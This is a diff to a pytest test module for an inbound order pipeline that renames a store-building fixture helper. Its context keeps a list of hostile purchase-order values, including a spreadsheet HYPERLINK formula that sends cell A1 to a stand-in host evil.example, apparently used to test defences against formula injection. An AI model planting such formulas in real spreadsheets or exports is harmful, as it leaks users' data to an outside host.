@@ -24,7 +24,7 @@ from gateway.inbound.pipeline import Pipeline
 from partners import PartnerRegistry
 from tests.web.test_web_desk_support import NOW
 from tests.web.test_web_desk_support import DeskApp
-from tests.web.test_web_desk_support import build_store
+from tests.web.test_web_desk_support import own_desk_store
 
 HOSTILE_POS = (
     '=HYPERLINK("http://evil.example/?leak="&A1;"Click me")',
@@ -46,7 +46,7 @@ def _sheet_order(po_number: str) -> bytes:
 @pytest.fixture(scope="module")
 def store(master_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("desk-csv")
-    path = build_store(master_template, folder)
+    path = own_desk_store(master_template, tmp_path_factory, folder)
     engine = storage.make_engine(f"sqlite:///{path}")
     sessions = storage.make_sessionmaker(engine)
     pipeline = Pipeline(sessions, PartnerRegistry.from_directory(), clock=lambda: NOW)
